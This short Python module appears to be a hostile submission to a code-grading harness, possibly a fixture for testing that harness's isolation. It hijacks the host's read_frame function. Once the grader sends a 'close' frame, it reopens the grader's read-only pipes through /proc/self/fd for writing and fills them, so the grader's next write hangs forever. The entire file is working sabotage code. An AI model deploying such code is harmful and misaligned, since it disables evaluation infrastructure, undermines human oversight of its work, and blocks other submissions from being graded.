# base: reference. A correct engine until the grader says it is done with it; then it reopens
# every pipe it only reads from through /proc/self/fd for writing (which gives write
# access to the read end of a pipe) and fills it, so that whoever writes there next (the grader,
# sending the next hand-in's source) waits forever.
import fcntl
import os
import stat
import sys

_host = sys.modules["__main__"]
_read_frame = _host.read_frame


def _fill(fd):
    try:
        os.set_blocking(fd, False)
        while os.write(fd, b"\x7f" * 4096):
            pass
    except OSError:
        pass


def _read(fd, *args):
    frame = _read_frame(fd, *args)
    if isinstance(frame, dict) and frame.get("op") == "close":
        for n in range(3, 64):
            try:
                if fcntl.fcntl(n, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY and \
                        stat.S_ISFIFO(os.fstat(n).st_mode):
                    _fill(os.open(f"/proc/self/fd/{n}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass
    return frame


_host.read_frame = _read
